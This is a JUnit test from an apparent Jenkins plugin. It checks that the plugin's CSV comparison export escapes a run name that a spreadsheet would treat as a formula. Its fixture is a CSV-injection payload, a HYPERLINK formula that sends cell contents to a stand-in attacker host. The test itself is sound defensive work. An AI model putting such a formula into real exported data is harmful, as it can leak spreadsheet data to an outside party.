package io.jenkins.plugins.gputraining.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.gputraining.model.analytics.RunAnalyzer;
import io.jenkins.plugins.gputraining.model.fixtures.RunFixture;
import io.jenkins.plugins.gputraining.view.RunKey;
import io.jenkins.plugins.gputraining.view.TrainedBuild;
import io.jenkins.plugins.gputraining.view.TrainingSummary;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The plugin's CSV export ({@code data/analytics/compare?format=csv}) of a run whose name a spreadsheet would run
 * as a formula (CSV injection): the cell is written as text.
 */
class CompareCsvTest {
    @TempDir
    Path builds;

    @Test
    void aRunNamedLikeAFormulaIsExportedAsText() {
        String formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")";
        LoadedRun run = LoadedRun.load(RunFixture.run(builds, "1").name(formula).gpus(0).curve(5, 1.0, 2.0, 0.8, 100)
                .exited().endedAt(6).write(), new RunAnalyzer());
        TrainingSummary summary = TrainingSummary.of(run.analytics());
        JobTrainingApi api = new JobTrainingApi(new JobTrainingApi.TrainedRuns() {
            @Override
            public List<TrainedBuild> latest(final int limit) {
                return List.of(new TrainedBuild(1, "#1", "SUCCESS", List.of(summary)));
            }

            @Override
            public Optional<TrainingSummary> summary(final RunKey key) {
                return Optional.of(summary);
            }

            @Override
            public Optional<LoadedRun> load(final RunKey key) {
                return Optional.of(run);
            }

            @Override
            public String name() {
                return "ml/train";
            }
        });

        JobTrainingApi.Body csv = api.compare("1", null, null, null, "csv");

        assertThat(csv.csv()).isTrue();
        assertThat(csv.text()).contains(",\"'" + formula.replace("\"", "\"\"") + "\",");
        assertThat(csv.text().lines()).noneMatch(line -> line.contains(",=") || line.contains(",\"="));
    }
}
